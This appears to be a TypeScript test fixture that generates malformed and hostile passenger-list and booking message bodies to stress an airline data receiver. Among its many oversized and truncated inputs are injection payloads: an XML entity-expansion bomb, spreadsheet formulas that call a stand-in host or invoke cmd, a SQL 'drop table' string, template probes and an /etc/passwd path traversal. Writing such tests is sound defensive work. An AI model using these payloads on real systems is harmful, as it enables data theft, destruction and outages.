// Bodies no carrier should send, and some that some day one will: each with a name for the report.
import { bookingPush, flightLandingIn, passengerList, type ListedPerson } from "./messages.ts";

export type HostileBody = { readonly name: string; readonly body: Buffer };

const megabyte = 1024 * 1024;
const traveller: ListedPerson = {
  surname: "MUSTERI",
  given: "ANAR",
  birthDate: "1980-05-01",
  document: "C01234567",
};
const good = (): string => passengerList(flightLandingIn(5, "J2", "401"), [traveller]);
const named = (surname: string): string =>
  passengerList(flightLandingIn(5, "J2", "402"), [{ ...traveller, surname }]);

/** The same bytes each time: no chance in tests. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = 0x2545f491;
  for (let at = 0; at < length; at += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    bytes[at] = state >>> 24;
  }
  return bytes;
}

function truncated(): HostileBody[] {
  const whole = Buffer.from(good());
  const cuts: HostileBody[] = [];
  for (let at = 1; at < whole.length; at += 41)
    cuts.push({ name: `cut after ${at} bytes`, body: whole.subarray(0, at) });
  return cuts;
}

function mail(content: string, depth: number): string {
  let body = content;
  for (let level = 0; level < depth; level += 1) {
    body = [
      "MIME-Version: 1.0",
      'Content-Type: multipart/mixed; boundary="b"',
      "",
      "--b",
      "Content-Type: application/edifact",
      "Content-Transfer-Encoding: base64",
      "",
      Buffer.from(body).toString("base64"),
      "--b--",
      "",
    ].join("\r\n");
  }
  return body;
}

const text = (name: string, body: string): HostileBody => ({ name, body: Buffer.from(body, "utf8") });

/** Small ones, of which many can be sent. */
export function smallBodies(): readonly HostileBody[] {
  return [
    { name: "nothing", body: Buffer.alloc(0) },
    { name: "one byte", body: Buffer.from("U") },
    { name: "noughts", body: Buffer.alloc(4_096) },
    { name: "noise", body: noise(64 * 1024) },
    text("a page", "<!doctype html><html><body>502 Bad Gateway</body></html>"),
    text(
      "an entity that unfolds",
      `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${"abcdefghij"[n + 1]} "${`&${"abcdefghij"[n]};`.repeat(10)}">`).join("")}]><x>&j;</x>`,
    ),
    text("JSON", JSON.stringify({ passengers: [traveller] })),
    text("UNB alone", "UNB+UNOA:4+J2+AZPIU+261121:0730+1'"),
    text("UNH without an end", "UNH+1+PAXLST:D:05B:UN:IATA'BGM+745'"),
    text(
      "counts that lie",
      good()
        .replace(/UNT\+\d+/, "UNT+999999999")
        .replace(/UNZ\+1/, "UNZ+2147483648")
        .replace(/CNT\+42:1/, "CNT+42:-9999999999999"),
    ),
    text("control characters", named("MUS\u0000TE\u001b[31mRI\u0007\u200e\u202e\ufeff")),
    text("half a character", good().replace("MUSTERI", "\ud83d")),
    text("a formula for a spreadsheet", named('=HYPERLINK("http://x.example/"&A1)')),
    text("another formula", named("+1-1@SUM(A1)|cmd")),
    text("SQL", named("MUSTERI'); drop table records.traveller; --")),
    text("a template", named("{{7*7}}${7*7}<%= 7*7 %>")),
    text("a path", named("../../../../etc/passwd%00")),
    text("mail in mail", mail(good(), 2)),
    text("mail in mail, nine deep", mail(good(), 9)),
    text("mail that never ends its part", mail(good(), 1).replace("--b--", "")),
    text("another syntax", good().replace("UNA:+.? '", "UNA''''''")),
    text("dates that are none", good().replace(/DTM\+(\d+):\d+/g, "DTM+$1:99999999999999999999")),
    text("a flight that is none", good().replace(/TDT\+20\+[^']*/, "TDT+20+'++'+:::::")),
    text(
      "two thousand travellers who are one",
      passengerList(
        flightLandingIn(6, "J2", "403"),
        Array.from({ length: 2_000 }, () => traveller),
      ),
    ),
    ...truncated(),
  ];
}

/** Large ones, up to the limit of a body. */
export function largeBodies(): readonly HostileBody[] {
  const filled = (unit: string): Buffer => Buffer.alloc(10 * megabyte - 1, unit);
  return [
    { name: "ten megabytes of terminators", body: filled("'") },
    { name: "ten megabytes of separators", body: filled("+") },
    { name: "ten megabytes of components", body: filled(":") },
    { name: "ten megabytes of line ends", body: filled("\r\n") },
    { name: "ten megabytes of release signs", body: filled("?") },
    { name: "ten megabytes of noughts", body: Buffer.alloc(10 * megabyte - 1) },
    { name: "ten megabytes of noise", body: noise(10 * megabyte - 1) },
    { name: "ten megabytes of openings", body: filled("UNB+UNOA:4+A+B'") },
    { name: "ten megabytes of messages", body: filled("UNH+1+PAXLST:D:05B:UN:IATA'UNT+2+1'") },
    { name: "ten megabytes of mail headers", body: filled("MIME-Version: 1.0\r\nX: y\r\n") },
    text(
      "a push with a hundred thousand meals",
      bookingPush(flightLandingIn(5, "J2", "404"), traveller).replace(
        "TKT+",
        () => `${"SSR+VGML:HK:1:J2:::IST:GYD'".repeat(100_000)}TKT+`,
      ),
    ),
    text(
      "a list of eleven thousand",
      passengerList(
        flightLandingIn(6, "J2", "405"),
        Array.from({ length: 11_000 }, (_, index) => ({
          ...traveller,
          surname: `MUSTERI${index}`,
          document: `C${index}`,
        })),
      ),
    ),
    text("a name of a megabyte", named("A".repeat(megabyte))),
    text("a thousand names in one", named(Array.from({ length: 50_000 }, () => "ABDUL").join(" "))),
    text("a megabyte of free text", good().replace("BGM+745'", `BGM+745'FTX+AAI+++${"X".repeat(megabyte)}'`)),
    text(
      "an element of a megabyte of components",
      good().replace("BGM+745'", `BGM+745'FTX+AAI${":A".repeat(megabyte / 2)}'`),
    ),
    text(
      "an element that repeats itself",
      good().replace("BGM+745'", `${"LOC+174+AZE'".repeat(80_000)}BGM+745'`),
    ),
  ];
}
